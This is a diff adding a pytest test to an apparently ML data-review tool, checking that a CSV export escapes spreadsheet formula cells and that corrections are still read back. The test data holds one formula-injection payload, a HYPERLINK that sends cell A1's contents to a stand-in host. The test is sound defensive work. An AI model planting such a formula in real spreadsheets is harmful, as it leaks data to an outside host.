@@ -400,3 +400,18 @@ def test_csv_safe_neutralises_formula_cells() -> None:
     assert [csv_safe(v) for v in INJECTION] == ["'" + v for v in INJECTION]
     assert csv_safe("plain text") == "plain text" and csv_safe("-") == "'-" and csv_safe(3) == 3
     assert csv_safe("-1.5") == "-1.5"  # a negative number stays a number
+
+
+def test_review_csv_neutralises_formulas_and_reads_them_back(tmp_path: Path) -> None:
+    """A data row that is a spreadsheet formula is exported quoted, and apply-review still finds its row."""
+    from tailorlm.review import read_corrections, review_csv
+
+    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    rows = [{"id": "train.csv:2", "source": "train.csv", "row": 2, "text": formula, "label": "-neg",
+             "predicted": "pos", "confidence": 0.9, "reason": "confident error"}]
+    text = review_csv(rows)
+    assert "'=HYPERLINK" in text and "'-neg" in text
+    review = tmp_path / "review.csv"
+    review.write_text(text.replace("confident error,,", "confident error,pos,"), encoding="utf-8")
+    [correction] = read_corrections(review)
+    assert correction.text == formula and correction.new_label == "pos" and correction.row == 2
